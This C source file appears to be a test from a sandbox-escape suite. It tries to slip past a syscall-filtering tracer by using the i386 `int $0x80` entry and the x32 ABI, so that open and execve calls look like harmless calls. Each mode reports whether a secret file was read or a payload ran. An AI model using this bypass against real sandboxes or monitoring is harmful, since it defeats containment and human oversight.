/* abi_entry: enter the kernel by another door, where call numbers mean other things.
 *
 *   abi_entry MODE SECRET [PAYLOAD]
 *
 * MODE: int80_open   `int $0x80` is the i386 entry even in a 64-bit process: call 5 is open
 *                    there (fstat on x86_64).  A tracer reading it with the x86_64 table would
 *                    see an fstat and let it through.
 *       int80_exec   i386 call 11 (execve; munmap on x86_64) of PAYLOAD
 *       x32_open     the x32 ABI: openat with __X32_SYSCALL_BIT (0x40000000) set
 * Class 3 (other ways into the kernel).  ESCAPED when the secret is read or the payload ran.
 */
#include "attack.h"

#include <sys/mman.h>

static long int80(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}

/* memory below 4 GiB, where 32-bit pointers can reach */
static char *low_copy(const char *s) {
    char *p = mmap(NULL, 4096 * 4, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                   -1, 0);
    if (p == MAP_FAILED)
        skipped("mmap(MAP_32BIT): %s", ename(errno));
    snprintf(p, 4096, "%s", s);
    return p;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("abi_entry MODE SECRET [PAYLOAD]");
    const char *mode = argv[1], *secret = argv[2];
    wait_for_tracer();
    if (!strcmp(mode, "int80_open")) {
        char *path = low_copy(secret);
        long fd = int80(5 /* i386 open */, (long)path, O_RDONLY, 0);
        if (fd == -ENOSYS)
            note("int $0x80 open: ENOSYS (refused, or no ia32 emulation)");
        if (fd < 0) {
            if (fd == -ENOSYS && !tracer_pid())
                skipped("the kernel has no ia32 emulation (int $0x80 gives ENOSYS)");
            blocked("int $0x80 open: %s", ename((int)-fd));
        }
        if (is_secret_fd((int)fd))
            escaped("int $0x80 open read the secret (fd -> %s)", fd_name((int)fd));
        blocked("int $0x80 open gave fd %ld, not the secret (%s)", fd, fd_name((int)fd));
    } else if (!strcmp(mode, "int80_exec")) {
        if (argc < 4)
            usage("int80_exec needs PAYLOAD");
        const char *marker = getenv("ESC_MARKER");
        char *mem = low_copy(argv[3]);
        /* argv and envp as 32-bit pointer arrays */
        unsigned int *vec = (unsigned int *)(mem + 1024);
        char *envs = mem + 2048;
        snprintf(envs, 2048, "ESC_MARKER=%s", marker ? marker : "/dev/null");
        vec[0] = (unsigned int)(unsigned long)mem;
        vec[1] = 0;
        vec[2] = (unsigned int)(unsigned long)envs;
        vec[3] = 0;
        pid_t pid = fork();
        if (pid == 0) {
            long rc = int80(11 /* i386 execve */, (long)mem, (long)vec, (long)(vec + 2));
            printf("note: int $0x80 execve: %s\n", ename((int)-rc));
            fflush(stdout);
            _exit(rc == -ENOSYS ? 38 : 1);
        }
        int status;
        waitpid(pid, &status, 0);
        if (marker && exists(marker))
            escaped("the payload ran through int $0x80 execve");
        if (WIFEXITED(status) && WEXITSTATUS(status) == 38 && !tracer_pid())
            skipped("the kernel has no ia32 emulation (int $0x80 gives ENOSYS)");
        blocked("the payload did not run (child status %#x)", status);
    } else if (!strcmp(mode, "x32_open")) {
        long fd = syscall(0x40000000L | SYS_openat, AT_FDCWD, secret, O_RDONLY);
        int err = errno;
        if (fd < 0) {
            if (err == ENOSYS && !tracer_pid())
                skipped("the kernel has no x32 ABI (CONFIG_X86_X32_ABI is off: ENOSYS)");
            blocked("x32 openat: %s", ename(err));
        }
        if (is_secret_fd((int)fd))
            escaped("x32 openat read the secret");
        blocked("x32 openat gave a file that is not the secret");
    }
    usage("MODE: int80_open int80_exec x32_open");
}
